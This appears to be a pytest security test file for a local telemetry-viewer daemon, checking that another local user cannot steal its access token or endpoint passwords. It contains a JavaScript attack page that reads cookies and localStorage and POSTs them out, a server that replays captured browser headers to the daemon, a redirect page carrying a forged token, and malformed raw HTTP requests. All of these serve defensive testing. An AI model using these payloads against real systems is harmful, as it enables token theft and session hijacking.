"""Another local user gets neither the view's token nor an endpoint's credentials, against the real daemon: not
from a server of their own on another port of 127.0.0.1 that a real Chromium visits (what it is sent, replayed
to the daemon), not from the daemon's debug log, not from /healthz or the log when an endpoint with a password
or an API key fails. The other user is a forked child running as nobody (tests/support/nobody.py); it uses only
modules imported here, so it needs no readable checkout."""

from __future__ import annotations

import http.client
import json
import socket
from pathlib import Path

import pytest

from tests.support.commands import run_replay
from tests.support.daemon import DaemonProcess, one_session_daemon
from tests.support.files import ended_session
from tests.support.liars import Answer, LyingBackend
from tests.support.net import LOOPBACK, free_port, wait_until
from tests.support.nobody import as_nobody, serve_as_nobody_on_a_free_port, stop_child

TOKEN_HEADER = "X-Copilot-Otel-Token"


def write_session(home) -> Path:
    """The session the view serves; its folder."""
    return ended_session(home, "token-session", repository="octo/private").parent


@pytest.fixture(scope="module")
def daemon(tmp_path_factory):
    with one_session_daemon(tmp_path_factory.mktemp("token"), "token-session", repository="octo/private") as process:
        yield process


# ------------------------------------------------------------------------ a server on another port


ATTACK_PAGE = """<!doctype html><html><body><script>
const out = {cookie: document.cookie, stored: localStorage.getItem("copilot-otel-token"),
             keys: Object.keys(localStorage)};
fetch("http://127.0.0.1:%d/api/sessions", {credentials: "include"})
  .then((r) => "read " + r.status, () => "blocked")
  .then((api) => { out.api = api; return fetch("/report", {method: "POST", body: JSON.stringify(out)}); });
</script></body></html>"""


def _listen(port: int) -> socket.socket:
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind((LOOPBACK, port))
    server.listen(16)
    return server


def _replay(daemon_port: int, headers: dict) -> int:
    """What the daemon answers to /api/sessions asked with everything a captured request carried."""
    connection = http.client.HTTPConnection(LOOPBACK, daemon_port, timeout=10)
    try:
        kept = {k: v for k, v in headers.items() if k.lower() not in ("host", "content-length", "connection")}
        connection.request("GET", "/api/sessions", headers=kept)
        return connection.getresponse().status
    finally:
        connection.close()


def _attacker(state: tuple[socket.socket, int]) -> None:
    """Answer every request: record its path and headers, replay them to the daemon, serve the attack page;
    /results gives what was recorded."""
    server, daemon_port = state
    seen, report = [], {}
    while True:
        conn, _peer = server.accept()
        conn.settimeout(3)
        try:
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = conn.recv(65536)
                if not chunk:
                    raise ConnectionError
                data += chunk
            head, _sep, body = data.partition(b"\r\n\r\n")
            lines = head.decode("latin-1").split("\r\n")
            path = lines[0].split(" ")[1]
            headers = dict(line.split(": ", 1) for line in lines[1:] if ": " in line)
            length = int(headers.get("Content-Length", "0"))
            while len(body) < length:
                body += conn.recv(65536)
            if path == "/results":
                answer, kind = json.dumps({"seen": seen, "report": report}).encode(), "application/json"
            else:
                seen.append({"path": path, "headers": headers, "replayed": _replay(daemon_port, headers)})
                if path == "/report":
                    report.update(json.loads(body))
                answer, kind = (ATTACK_PAGE % daemon_port).encode(), "text/html"
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
                         % (kind.encode(), len(answer)) + answer)
        except (OSError, ValueError, IndexError):
            pass
        finally:
            conn.close()


def _results(port: int) -> dict:
    connection = http.client.HTTPConnection(LOOPBACK, port, timeout=10)
    try:
        connection.request("GET", "/results")
        return json.loads(connection.getresponse().read())
    finally:
        connection.close()


def test_a_server_of_another_user_on_another_port_gets_nothing_that_opens_the_view(daemon, browser):
    """A real Chromium, logged in to the view, visits a page of nobody's server on another port of 127.0.0.1.
    That server records every request the browser makes to it and replays each to the daemon's API with all
    its headers (cookies included): every replay is refused, because the browser keeps no cookie and sends
    the token to no other port; the page of the other port cannot read the token from the view's storage, and
    its cross-origin request to the API is refused too. A request that did carry the token would have
    passed the same replay (checked), so the replay is no straw man."""
    page = browser.page()
    page.goto(daemon.page_url())
    page.wait_for_selector('tr.session[data-id="token-session"]')
    assert page.evaluate("localStorage.getItem('copilot-otel-token')") == daemon.token
    child, port = serve_as_nobody_on_a_free_port(_listen, lambda server: _attacker((server, daemon.port)))
    try:
        attack = browser.page()
        attack.goto(f"http://{LOOPBACK}:{port}/")
        wait_until(lambda: _results(port)["report"], timeout=20, what="the attack page's report")
        control = http.client.HTTPConnection(LOOPBACK, port, timeout=10)  # a leak, had there been one
        control.request("GET", "/leaked", headers={TOKEN_HEADER: daemon.token})
        control.getresponse().read()
        control.close()
        results = _results(port)
    finally:
        stop_child(child)
    seen, report = results["seen"], results["report"]
    from_browser = [r for r in seen if "Chrome" in r["headers"].get("User-Agent", "")]
    assert {r["path"] for r in from_browser} >= {"/", "/report"}  # the browser did come, twice at least
    for request in from_browser:
        assert request["replayed"] == 401, request
        assert daemon.token not in json.dumps(request)
        assert "copilot-otel" not in request["headers"].get("Cookie", "")
    assert [r["replayed"] for r in seen if r["path"] == "/leaked"] == [200]
    assert report == {"cookie": "", "stored": None, "keys": [], "api": "blocked"}
    assert browser.context.cookies() == []


# ------------------------------------------------------------------------ a link with a wrong token


LOG_OUT_PAGE = """<!doctype html><html><body><script>
location.href = "http://127.0.0.1:%d/#token=BOGUS";
</script></body></html>"""


def _log_out_server(state: tuple[socket.socket, int]) -> None:
    """Answer every request with a page that sends the browser to the view with a wrong token."""
    server, daemon_port = state
    page = (LOG_OUT_PAGE % daemon_port).encode()
    while True:
        conn, _peer = server.accept()
        conn.settimeout(3)
        try:
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = conn.recv(65536)
                if not chunk:
                    raise ConnectionError
                data += chunk
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n"
                         b"Connection: close\r\n\r\n" % len(page) + page)
        except OSError:
            pass
        finally:
            conn.close()


def test_a_page_of_another_site_cannot_log_the_owner_out_with_a_wrong_token(daemon, browser):
    """The owner's Chromium holds the view's token. A page of nobody's server on another port sends it to
    http://127.0.0.1:<port>/#token=BOGUS: the view says the link's token was refused, keeps the token it held,
    and shows the sessions; a wrong token pasted into an open view's address bar (the fragment alone changes)
    is dropped the same way. The owner's own link still logs in."""
    page = browser.page()
    page.goto(daemon.page_url())
    page.wait_for_selector('tr.session[data-id="token-session"]')
    child, port = serve_as_nobody_on_a_free_port(_listen, lambda server: _log_out_server((server, daemon.port)))
    try:
        attacked = browser.page()
        attacked.goto(f"http://{LOOPBACK}:{port}/")
        attacked.wait_for_url(f"http://{LOOPBACK}:{daemon.port}/")
        attacked.wait_for_selector("#token-notice")
        assert "refused" in attacked.locator("#token-notice").inner_text()
        attacked.wait_for_selector('tr.session[data-id="token-session"]')
        attacked.wait_for_selector("#status.live")
    finally:
        stop_child(child)
    assert attacked.evaluate("localStorage.getItem('copilot-otel-token')") == daemon.token
    page.evaluate("location.hash = '#token=BOGUS-TOO'")
    wait_until(lambda: page.locator("#token-notice").count() == 1, timeout=15, what="the pasted token refused")
    assert page.evaluate("localStorage.getItem('copilot-otel-token')") == daemon.token
    fresh = browser.page()
    fresh.goto(daemon.page_url())
    fresh.wait_for_selector('tr.session[data-id="token-session"]')
    assert fresh.locator("#token-notice").count() == 0
    assert page.errors == attacked.errors == fresh.errors == []


# ------------------------------------------------------------------------ the debug log


def _bad_requests(port: int, token: str) -> None:
    """Requests aiohttp refuses and describes at debug level, each with the token where it would be echoed."""
    for raw in (f"GET /?token={token}\x00 HTTP/1.1\r\nHost: {LOOPBACK}\r\n\r\n",
                f"GET /api/sessions?token={token} HTTP/1.1\r\nHost: {LOOPBACK}\r\nBad Header {token}\r\n\r\n",
                f"GET / HTTP/1.1\r\nHost: {LOOPBACK}\r\nAuthorization: Bearer {token}\x01\r\n\r\n",
                f"GET /{token} HTTP/1.1\r\nHost: {LOOPBACK}\r\nContent-Length: {token}\r\n\r\n",
                f"GET /api/sessions?token={token} HTTP/1.1\r\nHost: {LOOPBACK}\r\n\r\n"):
        with socket.create_connection((LOOPBACK, port), timeout=10) as sock:
            sock.sendall(raw.encode("latin-1"))
            try:
                sock.recv(65536)
            except OSError:
                pass


def test_the_token_is_in_no_line_of_the_debug_log(daemon):
    """At --log-level debug, requests that carry the token in their query, a header or their path, and that
    aiohttp echoes when it refuses them, leave the token out of every line of the daemon's output."""
    before = len(daemon.log_text())
    _bad_requests(daemon.port, daemon.token)
    wait_until(lambda: daemon.log_text()[before:].count("Error handling request") >= 3, timeout=10,
               what="aiohttp's debug lines about the bad requests")
    text = daemon.log_text()
    assert "DEBUG" in text and "token=***" in text[before:]  # the lines that held it are there, redacted
    assert daemon.token not in text


# ------------------------------------------------------------------------ credentials in an endpoint


def _healthz(port: int) -> tuple[int, str]:
    connection = http.client.HTTPConnection(LOOPBACK, port, timeout=10)
    try:
        connection.request("GET", "/healthz")
        response = connection.getresponse()
        return response.status, response.read().decode()
    finally:
        connection.close()


SECRETS = ("trace-pw-1", "trace-key-1", "metric-pw-2", "metric-key-2", "grpc-pw-3", "grpc-key-3")


def test_a_failing_endpoint_shows_no_password_or_key_on_healthz_or_in_the_log(tmp_path):
    """Traces to an OTLP/HTTP endpoint with a user and password and an api_key (a backend that refuses them
    and echoes the URL), metrics pushed to a closed port given the same way: /healthz, read by nobody, says
    the export fails and names the endpoint, without password or key; neither is in any line of the log."""
    write_session(tmp_path / "home")
    closed = free_port()
    echo = b"401: no such key: GET /v1/traces?api_key=trace-key-1 for alice:trace-pw-1@127.0.0.1"
    with LyingBackend(Answer(status=401, content_type="text/plain", body=echo)) as backend:
        traces = backend.traces_url.replace("http://", "http://alice:trace-pw-1@") + "?api_key=trace-key-1"
        env = {"OTEL_EXPORTER_OTLP_TRACES_ENDPOINT": traces, "OTEL_EXPORTER_OTLP_PROTOCOL": "http/protobuf",
               "OTEL_METRICS_EXPORTER": "otlp", "OTEL_METRIC_EXPORT_INTERVAL": "200",
               "OTEL_EXPORTER_OTLP_METRICS_ENDPOINT":
                   f"http://bob:metric-pw-2@{LOOPBACK}:{closed}/v1/metrics?api_key=metric-key-2",
               "OTEL_EXPORTER_OTLP_TIMEOUT": "1"}
        with DaemonProcess(tmp_path / "home", tmp_path / "state", env=env) as daemon:
            wait_until(lambda: "failing" in _healthz(daemon.port)[1], timeout=60, what="/healthz to say it fails")
            wait_until(lambda: "metrics" in daemon.log_text() and "next push" in daemon.log_text(), timeout=30,
                       what="a failed metrics push in the log")
            status, health = as_nobody(_healthz, daemon.port)
            text = daemon.log_text()
    assert status == 200 and "trace export failing" in health and f"***@{LOOPBACK}" in health, health
    assert "api_key=***" in text and f"***@{LOOPBACK}:{closed}" in text  # the endpoints are named, redacted
    for secret in SECRETS[:4]:
        assert secret not in health and secret not in text, secret


def test_replay_to_a_failing_endpoint_says_so_without_its_credentials(tmp_path):
    """`replay` to a gRPC and to an OTLP/HTTP endpoint with a password and a key, neither answering: it fails,
    names the endpoint, and shows neither the password nor the key."""
    session = write_session(tmp_path / "home")
    closed = free_port()
    for protocol, endpoint in (("grpc", f"http://carol:grpc-pw-3@{LOOPBACK}:{closed}?api_key=grpc-key-3"),
                               ("http/protobuf", f"http://alice:trace-pw-1@{LOOPBACK}:{closed}/v1/traces"
                                                 "?api_key=trace-key-1")):
        env = {"OTEL_EXPORTER_OTLP_TRACES_ENDPOINT": endpoint, "OTEL_EXPORTER_OTLP_PROTOCOL": protocol,
               "OTEL_EXPORTER_OTLP_TIMEOUT": "1"}
        done = run_replay(str(session), "--state-dir", str(tmp_path / f"state-{protocol[:4]}"),
                          "--give-up-after", "2", env=env)
        said = (done.stdout + done.stderr).decode()
        assert done.returncode != 0 and f"{LOOPBACK}:{closed}" in said, said
        for secret in SECRETS:
            assert secret not in said, (protocol, said)
